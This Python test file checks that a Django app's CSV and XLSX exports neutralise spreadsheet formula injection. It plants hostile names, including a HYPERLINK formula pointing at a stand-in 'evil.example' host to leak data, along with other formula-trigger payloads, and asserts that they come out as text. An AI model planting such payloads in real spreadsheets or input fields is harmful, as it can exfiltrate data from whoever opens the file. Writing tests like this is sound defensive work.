"""No export turns a name typed into the app into a live spreadsheet formula (CSV injection).

A hotel, a room, a resident's nickname or a supply item may be named `=HYPERLINK(…)`: in every
CSV and XLSX the app produces, such a text cell starts with an apostrophe (OWASP), so that the
spreadsheet shows it as text. Numbers stay numbers.
"""

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.urls import reverse
from openpyxl import load_workbook

from harmreduction.models import Item
from placements.models import Hotel, Place
from reports import rendering
from reports.models import Audience, Report
from reports.services import report_build
from reports.tests import dataset
from residents.models import Resident

HOSTILE_NAMES = {
    "hotel": '=HYPERLINK("http://evil.example/?leak";"Hôtel")',
    "hotel2": "+SUM(1;2)",
    "room": "-2+3",
    "nickname": "@SUM(A1)",
    "item": "=1+1",
    "item2": "\tTAB",
    "item3": "\rCR",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_data(db, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    dataset.build()
    alpha, beta = Hotel.objects.order_by("name")
    Hotel.objects.filter(pk=alpha.pk).update(name=HOSTILE_NAMES["hotel"])
    Hotel.objects.filter(pk=beta.pk).update(name=HOSTILE_NAMES["hotel2"])
    Place.objects.filter(pk=Place.objects.order_by("pk").first().pk).update(
        room=HOSTILE_NAMES["room"]
    )
    Resident.objects.update(nickname=HOSTILE_NAMES["nickname"])
    for name, key in (("Pipe", "item"), ("Seringue", "item2"), ("Nyxoid", "item3")):
        assert Item.objects.filter(name=f"{name} (test)").update(name=HOSTILE_NAMES[key]) == 1
    reports = []
    for audience in Audience.values:
        report, _created = Report.request(
            audience=audience,
            period_start=datetime.date(2025, 1, 1),
            period_end=datetime.date(2025, 12, 31),
            idempotency_key=f"injection-{audience}",
            by=None,
        )
        report_build(report.pk)
        report.refresh_from_db()
        reports.append(report)
    return reports


def _assert_safe_text(value, where):
    if isinstance(value, str) and value:
        assert not value.startswith(TRIGGERS), f"{where}: {value!r} is read as a formula"


def _csv_cells(response):
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def _xlsx_cells(response):
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def _check_csv(response, where, seen):
    for cell in _csv_cells(response):
        _assert_safe_text(cell, where)
        seen.add(cell)


def _check_xlsx(response, where, seen):
    numbers = 0
    for cell in _xlsx_cells(response):
        assert cell.data_type != "f", f"{where} {cell.coordinate}: formula {cell.value!r}"
        _assert_safe_text(cell.value, f"{where} {cell.coordinate}")
        numbers += isinstance(cell.value, int | float)
        seen.add(cell.value)
    assert numbers > 0, f"{where}: the figures are no longer numbers"


def test_it_neutralises_formulas_in_every_export(client_for, marc, hostile_data):
    client = client_for(marc)
    seen: set = set()
    month = {"month": "2025-03"}
    _check_csv(client.get(reverse("placements:statement_csv"), month), "statement.csv", seen)
    _check_xlsx(client.get(reverse("placements:statement_xlsx"), month), "statement.xlsx", seen)
    for report in hostile_data:
        where = f"report {report.audience}"
        _check_xlsx(client.get(reverse("reports:report_xlsx", args=[report.pk])), where, seen)
        for key in rendering.table_keys(report):
            url = reverse("reports:report_csv", args=[report.pk, key])
            _check_csv(client.get(url), f"{where} {key}.csv", seen)
    # The hostile names did reach the exports, as text.
    assert "'" + HOSTILE_NAMES["hotel"] in seen
    assert "'" + HOSTILE_NAMES["hotel2"] in seen
    assert "'" + HOSTILE_NAMES["item"] in seen
    assert "'" + HOSTILE_NAMES["item2"] in seen
    # Rooms print as "Chambre -2+3"; no export lists residents (their nicknames must not leak
    # into a formula either, were one added).


def test_it_keeps_negative_and_plain_numbers_as_numbers():
    from core.spreadsheets import safe_cell

    assert safe_cell(-3) == -3
    assert safe_cell(-0.5) == -0.5
    assert safe_cell(None) is None
    assert safe_cell("Hôtel du Nord") == "Hôtel du Nord"
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"


def test_it_writes_every_export_through_the_core_helper():
    """No code writes CSV rows or worksheet rows around core.spreadsheets: a single cell may be
    styled in place, but a value written into it goes through safe_cell."""
    root = Path(__file__).resolve().parent.parent
    direct = re.compile(
        r"csv\.(writer|DictWriter)\(|\b\w*sheet\.append\(|\.cell\([^)]*value=(?!safe_cell\()"
    )
    offenders = [
        f"{path.relative_to(root)}:{number}"
        for package in django_settings.PROJECT_APPS
        for path in (root / package).rglob("*.py")
        if "tests" not in path.parts and path != root / "core" / "spreadsheets.py"
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if direct.search(line)
    ]
    assert offenders == []
